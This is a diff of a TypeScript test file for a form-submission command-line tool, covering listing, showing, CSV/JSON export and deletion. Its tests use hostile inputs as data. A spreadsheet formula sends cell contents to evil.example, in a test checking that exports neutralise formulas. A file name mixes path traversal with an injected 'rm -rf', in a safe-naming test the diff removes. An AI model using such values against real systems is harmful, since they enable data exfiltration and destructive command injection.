@@ -1,17 +1,13 @@
 import { execFile } from "node:child_process";
-import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
-import { basename, join } from "node:path";
-import { Readable } from "node:stream";
-import { text } from "node:stream/consumers";
-import { expect, onTestFinished, test } from "vitest";
-import { fromBufferPromise } from "yauzl";
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { expect, test } from "vitest";
 import { openDatabase } from "#api/database/open.ts";
 import type { Database } from "#api/database/tables.ts";
 import { letterFolder } from "#api/letters/letter-files.ts";
 import { givenUpDate } from "#api/letters/outbox.ts";
-import { openSigner } from "#api/signing/signer.ts";
-import type { Submission } from "#api/valid-submission.ts";
-import { storeSubmission } from "#api/submissions/submission-store.ts";
+import type { Submission } from "#api/submission.ts";
+import { storeSubmission } from "#api/submissions/store.ts";
 import { readSubmissionPages, type SubmissionFilter } from "#api/submissions/stored-submissions.ts";
 import { testOnEach } from "#test/databases.ts";
 import { contact, order, quote, application, sampleNow, survey } from "#test/samples.ts";
@@ -19,9 +15,7 @@ import { recordedTerminal } from "#test/recorded-terminal.ts";
 import { makeFolder } from "#test/folders.ts";
 import { exportSubmissions } from "./submissions/export.ts";
 import { forgetSubmissions } from "./submissions/forget.ts";
-import type { Format } from "./submissions/formats.ts";
 import { listSubmissions } from "./submissions/list.ts";
-import { renewKey } from "./submissions/renew-key.ts";
 import { showSubmission } from "./submissions/show.ts";
 
 const days = ["2026-11-19", "2026-11-20", "2026-11-21"].map((day) => new Date(`${day}T23:59:59.999Z`));
@@ -72,12 +66,10 @@ testOnEach("a shortened list says how many submissions there are", async (databa
   expect((await list(database, { limit: 3 })).err).toBe("");
 });
 
-testOnEach("a table fits the terminal, and is complete in a pipe", async (database) => {
+testOnEach("a table is cut on a terminal, and complete in a pipe", async (database) => {
   const company = "A company with a name that has no end ".repeat(4).trim();
   await storeSample(database, { data: { ...contact, company } });
-  const lines = (await list(database, { columns: 100 })).out.trim().split("\n");
-  expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(100);
-  expect(lines[1]).toContain("…");
+  expect((await list(database, { isTTY: true })).out).toContain("A company with a name that has no e…  ana@");
   expect((await list(database)).out).toContain(company);
 });
 
@@ -104,32 +96,32 @@ testOnEach("a submission is shown with its fields, files, letters and their stat
     files: ["file-1"],
   });
   const { out } = await show(database, { reference: ` ${reference.toLowerCase()}` });
-  expect(out).toMatch(new RegExp(`^${reference}\nkind +survey\n`));
+  expect(out).toMatch(new RegExp(`^reference +${reference}\nkind +survey\n`));
   expect(out).toMatch(
     /^slots +date 2026-12-02, from 09:00, to 12:00; date 2026-12-03, from 14:00, to 16:00$/m,
   );
   expect(out).toMatch(/^time zone +Europe\/Madrid$/m);
   expect(out).toMatch(/^notes +Gate 3\.\n {9,}Ask for the shift leader\.$/m);
   expect(out).toMatch(
-    /^Files\nroute survey\.pdf {2}pdf {2}2 kB\nAnyone with the link can open these until [\d: -]{16} UTC:\nhttps:\/\/site\.example\/file-1\?\d+$/m,
+    /^file +route survey\.pdf \(pdf, 2 kB\); anyone with the link can open it until [\d: -]{16} UTC:\n +https:\/\/site\.example\/file-1\?\d+$/m,
   );
-  expect(out).toContain("Letters\nana@example.com  Your message  waiting\n");
+  const letter = "“Your message” to ana@example.com:";
+  expect(out).toMatch(new RegExp(`^letter +${letter} waiting$`, "m"));
 
   await database.updateTable("outbox").set({ attempts: 2, last_error: "550 no such user" }).execute();
   expect((await show(database, { reference })).out).toContain(
-    "not sent after 2 attempts, next 2026-11-21 12:00: 550 no such user",
+    `${letter} waiting, next attempt 2026-11-21 12:00: 550 no such user\n`,
   );
-  await database.updateTable("outbox").set({ attempts: 1, send_after: givenUpDate }).execute();
-  expect((await show(database, { reference })).out).toContain(
-    "not sent after 1 attempt, given up: 550 no such user",
-  );
-  await database.updateTable("outbox").set({ sent_at: "2026-11-21T12:05:00.000Z" }).execute();
-  expect((await show(database, { reference })).out).toContain("sent 2026-11-21 12:05");
+  await database.updateTable("outbox").set({ send_after: givenUpDate }).execute();
+  expect((await show(database, { reference })).out).toContain(`${letter} given-up: 550 no such user\n`);
+  const sent = { sent_at: "2026-11-21T12:05:00.000Z", last_error: null };
+  await database.updateTable("outbox").set(sent).execute();
+  expect((await show(database, { reference })).out).toContain(`${letter} sent 2026-11-21 12:05\n`);
   expect(JSON.parse((await show(database, { reference, json: true })).out)).toMatchObject({
     reference,
     data,
     files: [{ id: "file-1", name: "route survey.pdf", size: 2048 }],
-    letters: [{ to: ["ana@example.com"], state: "sent 2026-11-21 12:05" }],
+    letters: [{ to: ["ana@example.com"], state: "sent" }],
   });
 });
 
@@ -138,10 +130,9 @@ testOnEach("a field's typed text is shown next to its value", async (database) =
   const reference = await storeSample(database, { data: { ...contact, typed } });
   const { out } = await show(database, { reference });
   expect(out).toMatch(/^phone +\+34 600 000 000$/m);
-  expect(out).toContain("\nAs typed\nphone            0034 600.000.000\npieces 1 length  12,5\n");
-  const [head = [], row = []] = parseCsv((await exported(database, "csv")).toString());
+  expect(out).toMatch(/^phone, as typed +0034 600\.000\.000\npieces 1 length, as typed +12,5$/m);
+  const [head = [], row = []] = parseCsv(await exported(database, "csv"));
   expect(row[head.indexOf("typed")]).toBe("phone 0034 600.000.000, pieces 1 length 12,5");
-  expect((await show(database, { reference: await storeSample(database) })).out).not.toContain("As typed");
 });
 
 testOnEach("an unknown reference is not found", async (database) => {
@@ -149,42 +140,6 @@ testOnEach("an unknown reference is not found", async (database) => {
     exit: "nothing",
     message: "CT-2222-2222: there is no such submission",
   });
-});
-
-testOnEach("files are saved under safe names, private to the user, without overwriting", async (database) => {
-  await addUpload(database, "file-1", "../../etc/passwd; rm -rf .pdf", "cv");
-  await addUpload(database, "file-2", "履歴書.pdf", "cv");
-  const files = ["file-1", "file-2"];
-  const reference = await storeSample(database, { kind: "application", data: application, files });
-  const folder = join(makeFolder(), "new", "folder");
-  const { err } = await show(database, { reference, folder });
-  const names = [`${reference}-1-..-..-etc-passwd-rm--rf-.pdf`, `${reference}-2-履歴書.pdf`];
-  expect(readdirSync(folder).toSorted()).toEqual(names);
-  expect(err).toBe(names.map((name) => `Saved ${join(folder, name)}\n`).join(""));
-  expect(readFileSync(join(folder, names[1] ?? ""), "utf8")).toBe("content of file-2");
-  expect(statSync(join(folder, names[0] ?? "")).mode & 0o777).toBe(0o600);
-
-  writeFileSync(join(folder, names[0] ?? ""), "mine");
-  await expect(show(database, { reference, folder })).rejects.toThrow("exists already");
-  expect(readFileSync(join(folder, names[0] ?? ""), "utf8")).toBe("mine");
-});
-
-testOnEach("a file whose download is interrupted leaves nothing", async (database) => {
-  await addUpload(database, "file-1");
-  const reference = await storeSample(database, { files: ["file-1"] });
-  const folder = makeFolder();
-  const { terminal } = recordedTerminal();
-  const broken = async () =>
-    Readable.from(
-      (async function* () {
-        yield "half";
-        throw new Error("the store has gone");
-      })(),
-    );
-  await expect(
-    showSubmission(database, { reference, json: false, folder }, terminal, { read: broken, link }),
-  ).rejects.toThrow("the store has gone");
-  expect(readdirSync(folder)).toEqual([]);
 });
 
 testOnEach("pages contain every row once, even with equal times", async (database) => {
@@ -217,7 +172,7 @@ testOnEach(
   async (database) => {
     await storeSample(database, { data: { ...contact, message: 'A "tank",\nor two' } }, days[1]);
     await storeSample(database, { kind: "quote", data: quote }, days[0]);
-    const csv = (await exported(database, "csv")).toString();
+    const csv = await exported(database, "csv");
     expect(csv.startsWith("\uFEFFreference,kind,subject,receivedAt,deleteOn,locale,email,topic,name,")).toBe(
       true,
     );
@@ -237,22 +192,16 @@ testOnEach(
 testOnEach("a spreadsheet computes nothing that a visitor typed", async (database) => {
   const formulas = ['=HYPERLINK("https://evil.example?"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1", " =1", "＝1"];
   for (const name of formulas) await storeSample(database, { data: { ...contact, name } });
-  const [head = [], ...rows] = parseCsv((await exported(database, "csv")).toString());
+  const [head = [], ...rows] = parseCsv(await exported(database, "csv"));
   const names = rows.map((row) => row[head.indexOf("name")]);
   expect(names.toSorted()).toEqual(formulas.map((text) => `'${text.replace("\t", " ")}`).toSorted());
   expect(rows[0]?.[head.indexOf("phone")]).toBe("'+34 600 000 000");
-
-  const { "xl/worksheets/sheet1.xml": sheet = "", "xl/sharedStrings.xml": strings = "" } = await unzip(
-    await exported(database, "xlsx"),
-  );
-  expect(sheet).not.toContain("<f>");
-  expect(sheet + strings).toContain("=HYPERLINK(");
 });
 
 testOnEach("JSON contains everything as typed", async (database) => {
   const reference = await storeSample(database, { kind: "survey", email: survey.email, data: survey });
   for (let count = 0; count < 2; count += 1) await storeSample(database, {}, days[0]);
-  const all = JSON.parse((await exported(database, "json")).toString()) as {
+  const all = JSON.parse(await exported(database, "json")) as {
     reference: string;
     data: object;
   }[];
@@ -266,13 +215,12 @@ testOnEach(
     await storeSample(database);
     const file = join(makeFolder(), "all.csv");
     const { terminal, out } = recordedTerminal();
-    const write = (given: { file: string; overwrite?: boolean; filter?: SubmissionFilter }) =>
-      exportSubmissions(database, { overwrite: false, filter: {}, ...given }, terminal);
+    const write = (given: { file: string; filter?: SubmissionFilter }) =>
+      exportSubmissions(database, { filter: {}, ...given }, terminal);
     await write({ file });
     expect(out()).toBe(`${file}: 1 submission written.\n`);
     expect(statSync(file).mode & 0o777).toBe(0o600);
     await expect(write({ file })).rejects.toThrow("exists already");
-    await write({ file, overwrite: true });
     await expect(write({ file: "all.txt" })).rejects.toMatchObject({ exit: "wrongUsage" });
     await expect(write({ file: `${file}.json`, filter: { kind: "order" } })).rejects.toMatchObject({
       exit: "nothing",
@@ -288,20 +236,12 @@ testOnEach(
     const file = join(makeFolder(), "all.csv");
     const write = exportSubmissions(
       database,
-      { file, filter: { before: "2101-01-01" }, overwrite: false },
+      { file, filter: { before: "2101-01-01" } },
       recordedTerminal().terminal,
     );
     await expect(write).rejects.toMatchObject({ exit: "nothing" });
   },
 );
-
-testOnEach("on a terminal an export shows its progress", async (database) => {
-  await storeSample(database);
-  const { terminal, err } = recordedTerminal({ columns: 80 });
-  const file = join(makeFolder(), "all.json");
-  await exportSubmissions(database, { file, filter: {}, overwrite: false }, terminal);
-  expect(err()).toContain("of 1");
-});
 
 testOnEach("forgetting an address deletes its letters and files, and nobody else's", async (database) => {
   await addUpload(database, "file-1");
@@ -336,21 +276,23 @@ testOnEach("a store that is down keeps only its files from being forgotten", asy
   const letter = join(letterFolder(dataDir), `2026-11-21T12-00-00_${reference}_1.eml`);
   mkdirSync(letterFolder(dataDir));
   writeFileSync(letter, "");
-  const { terminal, out } = recordedTerminal();
   const removed: string[] = [];
-  const forgetting = forgetSubmissions(database, { reference, yes: true }, terminal, {
-    async removeFile(id) {
+  const store = {
+    async remove(id: string) {
       if (id === "file-1") throw new Error("no bucket");
       removed.push(id);
     },
-    dataDir,
-  });
+  };
+  const forgetting = forgetSubmissions(
+    { database, store, dataDir },
+    { reference, yes: true },
+    recordedTerminal().terminal,
+  );
   await expect(forgetting).rejects.toMatchObject({
     exit: "failed",
-    message: expect.stringMatching(/^1 file could not be deleted .*\nfile-1: no bucket$/),
+    message: expect.stringMatching(/are erased, but 1 file could not be deleted .*\nfile-1: no bucket$/),
   });
   expect(removed).toEqual(["file-2"]);
-  expect(out()).toBe("Deleted 1 submission, 1 letter, 2 files.\n");
   expect(await referencesIn(database, "uploads")).toEqual([]);
   expect(existsSync(letter)).toBe(false);
 });
@@ -374,23 +316,7 @@ testOnEach("forget needs either a reference or an address", async (database) => 
   await expect(forget(database, both)).rejects.toMatchObject(usage);
 });
 
-testOnEach(
-  "the signing key is renewed after confirmation, which invalidates earlier links",
-  async (database) => {
-    const signature = (await openSigner(database)).sign(["file"]);
-    const isSigned = async () => (await openSigner(database)).isSigned(["file"], signature);
-    await expect(
-      renewKey(database, { yes: false }, recordedTerminal({ answer: "n\n" }).terminal),
-    ).rejects.toMatchObject({ exit: "nothing" });
-    expect(await isSigned()).toBe(true);
-    const { terminal, out } = recordedTerminal();
-    await renewKey(database, { yes: true }, terminal);
-    expect(out()).toContain("Restart every copy of the site");
-    expect(await isSigned()).toBe(false);
-  },
-);
-
-test("the programs themselves list, show, save, export, forget and retain", { timeout: 60_000 }, async () => {
+test("the program itself lists, shows, exports and forgets", { timeout: 60_000 }, async () => {
   const dataDir = join(makeFolder(), "data");
   const fileId = "0123456789abcdefghijklmnopqrstuv";
   const database = await openDatabase({ dataDir });
@@ -402,106 +328,41 @@ test("the programs themselves list, show, save, export, forget and retain", { ti
     files: [fileId],
   } as const;
   const reference = await storeSample(database, stored);
-  await storeSample(database, { deleteOn: "2026-11-21" });
   await database.destroy();
-  const run = (program: string, ...args: string[]) => spawnProgram(dataDir, `cli/${program}.ts`, args);
-
-  const saved = join(dataDir, "saved");
-  expect(await run("submissions", "show", reference, "--save-files", saved)).toMatchObject({
-    code: 1,
-    err: expect.stringContaining("the file is no longer in the store"),
-  });
+  mkdirSync(join(dataDir, "uploads"));
   writeFileSync(join(dataDir, "uploads", fileId), "a CV");
-  expect(await run("submissions", "show", reference, "--save-files", saved)).toMatchObject({
+  const run = (...args: string[]) => spawnProgram(dataDir, args);
+
+  expect(await run("show", reference)).toMatchObject({
     code: 0,
     out: expect.stringMatching(
-      new RegExp(`^http://localhost:3000/global/files/${fileId}\\?expires=\\d+&signature=[\\w-]{43}$`, "m"),
-    ),
+      new RegExp(`^ +http://localhost:3000/global/files/${fileId}\\?expires=\\d+&signature=[\\w-]{43}$`, "m"),
+    ) as string,
   });
-  expect(readFileSync(join(saved, `${reference}-1-cv.pdf`), "utf8")).toBe("a CV");
-
-  const listed = await run("submissions", "list", "--until", "2026-11-21", "--json");
-  expect(JSON.parse(listed.out)).toHaveLength(2);
-  expect(await run("submissions", "list", "--until", "2026-11-20")).toEqual({
+  const listed = await run("list", "--until", "2026-11-21", "--json");
+  expect(JSON.parse(listed.out)).toHaveLength(1);
+  expect(await run("list", "--until", "2026-11-20")).toEqual({
     code: 3,
     out: "",
     err: "No submission matches.\n",
   });
-  expect(await run("submissions", "list", "--kind", "news")).toMatchObject({ code: 2 });
-  expect(await run("submissions", "export", join(dataDir, "all.xlsx"))).toMatchObject({ code: 0 });
-
-  const due = ["--now", "2026-11-21"];
-  expect(await run("retention", ...due, "--dry-run")).toMatchObject({
-    code: 0,
-    out: "Would delete 1 submission, 1 letter, no files. Nothing was deleted.\n",
+  expect(await run("list", "--kind", "news")).toMatchObject({ code: 2 });
+  expect(await run("export", join(dataDir, "all.csv"))).toMatchObject({ code: 0 });
+  expect(await run("export", join(dataDir, "none", "all.csv"))).toMatchObject({
+    code: 1,
+    err: expect.stringMatching(/^ENOENT: [^\n]+\n$/) as string,
   });
-  expect((await run("retention", ...due)).out).toBe("Deleted 1 submission, 1 letter, no files.\n");
-
-  expect(await run("submissions", "forget", reference)).toMatchObject({ code: 3 });
-  expect(await run("submissions", "forget", reference, "--yes")).toMatchObject({
+  expect(await run("forget", reference)).toMatchObject({ code: 3 });
+  expect(await run("forget", reference, "--yes")).toMatchObject({
     code: 0,
     out: "Deleted 1 submission, 1 letter, 1 file.\n",
   });
   expect(existsSync(join(dataDir, "uploads", fileId))).toBe(false);
-});
-
-test("retention deletes the files of deleted submissions, and orphans", { timeout: 60_000 }, async () => {
-  const dataDir = join(makeFolder(), "data");
-  const [claimed, kept] = ["c".repeat(32), "k".repeat(32)];
-  const database = await openDatabase({ dataDir });
-  for (const id of [claimed, kept]) await addUpload(database, id);
-  await storeSample(database, { files: [claimed], deleteOn: "2027-05-21" });
-  await storeSample(database, { files: [kept], deleteOn: "2027-06-18" });
-  await database.destroy();
-  expect((await spawnProgram(dataDir, "cli/retention.ts", ["--now", "2027-05-20"])).out).toBe(
-    "Deleted no submissions, no letters, no files.\n",
-  );
-  for (const id of [claimed, kept]) writeFileSync(join(dataDir, "uploads", id), "a CV");
-  expect((await spawnProgram(dataDir, "cli/retention.ts", ["--now", "2027-05-21"])).out).toBe(
-    "Deleted 1 submission, 1 letter, 1 file.\n",
-  );
-  expect(readdirSync(join(dataDir, "uploads")).map((path) => basename(path))).toEqual([kept]);
-});
-
-test("no command opens the database of a site whose -shm file was deleted", { timeout: 60_000 }, async () => {
-  const dataDir = join(makeFolder(), "data");
-  const database = await openDatabase({ dataDir });
-  onTestFinished(() => database.destroy());
-  const shm = join(dataDir, "site.sqlite-shm");
-  expect(await spawnProgram(dataDir, "cli/submissions.ts", ["list"])).toMatchObject({ code: 3 });
-  rmSync(shm);
-  expect(await spawnProgram(dataDir, "cli/submissions.ts", ["list"])).toMatchObject({
-    code: 1,
-    err: expect.stringMatching(
-      new RegExp(`^process ${process.pid} has .*site.sqlite-shm was deleted: try again`),
-    ),
+  expect(await run("erase-again")).toMatchObject({
+    code: 0,
+    out: "Erased again: nothing (1 erasure remembered).\n",
   });
-  expect(existsSync(shm)).toBe(false);
 });
-
-test(
-  "migrate --check creates no database, and ends with 3 while some are pending",
-  { timeout: 60_000 },
-  async () => {
-    const dataDir = join(makeFolder(), "data");
-    expect(await spawnProgram(dataDir, "cli/migrate.ts", ["--check"])).toEqual({
-      code: 3,
-      out: "",
-      err: `There is no database yet: ${join(dataDir, "site.sqlite")} does not exist.\n`,
-    });
-    expect(existsSync(dataDir)).toBe(false);
-    // An empty file is a database without tables.
-    mkdirSync(dataDir);
-    writeFileSync(join(dataDir, "site.sqlite"), "");
-    expect(await spawnProgram(dataDir, "cli/migrate.ts", ["--check"])).toMatchObject({
-      code: 3,
-      out: expect.stringMatching(/^Pending: 0001/),
-      err: expect.stringMatching(/^\d+ migrations pending\.\n$/),
-    });
-    expect(await spawnProgram(dataDir, "cli/migrate.ts", [])).toMatchObject({ code: 0 });
-    expect(await spawnProgram(dataDir, "cli/migrate.ts", ["--check"])).toMatchObject({ code: 0 });
-  },
-);
 
 /** Stores a submission with one letter to its sender, and answers with its reference. */
 async function storeSample(
@@ -545,24 +406,19 @@ async function list(
     filter = {},
     limit = 50,
     json = false,
-    columns,
-  }: { filter?: SubmissionFilter; limit?: number; json?: boolean; columns?: number } = {},
+    isTTY = false,
+  }: { filter?: SubmissionFilter; limit?: number; json?: boolean; isTTY?: boolean } = {},
 ) {
-  const { terminal, out, err } = recordedTerminal({ columns });
+  const { terminal, out, err } = recordedTerminal({ isTTY });
   await listSubmissions(database, { filter, limit, json }, terminal);
   return { out: out(), err: err() };
 }
 
-const link = (id: string, until: Date) => `https://site.example/${id}?${until.getTime()}`;
-
-async function show(
-  database: Database,
-  { reference, json = false, folder }: { reference: string; json?: boolean; folder?: string },
-) {
-  const { terminal, out, err } = recordedTerminal();
-  const read = (id: string) => Promise.resolve(Readable.from([`content of ${id}`]));
-  await showSubmission(database, { reference, json, folder }, terminal, { read, link });
-  return { out: out(), err: err() };
+async function show(database: Database, given: { reference: string; json?: boolean }) {
+  const { terminal, out } = recordedTerminal();
+  const link = (id: string, until: Date) => `https://site.example/${id}?${until.getTime()}`;
+  await showSubmission(database, given, terminal, link);
+  return { out: out() };
 }
 
 async function forget(
@@ -571,21 +427,15 @@ async function forget(
 ) {
   const { terminal, out, err } = recordedTerminal({ answer });
   const removed: string[] = [];
-  await forgetSubmissions(database, given, terminal, {
-    removeFile: async (id) => void removed.push(id),
-    dataDir: makeFolder(),
-  });
+  const store = { remove: async (id: string) => void removed.push(id) };
+  await forgetSubmissions({ database, store, dataDir: makeFolder() }, given, terminal);
   return { out: out(), err: err(), removed };
 }
 
-async function exported(database: Database, format: Format): Promise<Buffer> {
-  const file = join(makeFolder(), "export");
-  await exportSubmissions(
-    database,
-    { file, format, filter: {}, overwrite: false },
-    recordedTerminal().terminal,
-  );
-  return readFileSync(file);
+async function exported(database: Database, format: "csv" | "json"): Promise<string> {
+  const file = join(makeFolder(), `export.${format}`);
+  await exportSubmissions(database, { file, filter: {} }, recordedTerminal().terminal);
+  return readFileSync(file, "utf8");
 }
 
 async function referencesIn(database: Database, table: "submissions" | "outbox" | "uploads") {
@@ -622,25 +472,11 @@ function parseCsv(csv: string): string[][] {
   return rows.slice(0, -1);
 }
 
-/** The files of an archive, as texts. */
-async function unzip(archive: Buffer): Promise<Record<string, string>> {
-  const zip = await fromBufferPromise(archive);
-  const files: Record<string, string> = {};
-  for await (const entry of zip.eachEntry()) {
-    files[entry.fileName] = await text(await zip.openReadStreamPromise(entry));
-  }
-  return files;
-}
-
-function spawnProgram(
-  dataDir: string,
-  program: string,
-  args: string[],
-): Promise<{ code: number; out: string; err: string }> {
+function spawnProgram(dataDir: string, args: string[]): Promise<{ code: number; out: string; err: string }> {
   return new Promise((resolve) => {
     const child = execFile(
       process.execPath,
-      [program, ...args],
+      ["cli/submissions/main.ts", ...args],
       { env: { PATH: process.env["PATH"], DATA_DIR: dataDir } },
       (_error, out, err) => resolve({ code: child.exitCode ?? -1, out, err }),
     );
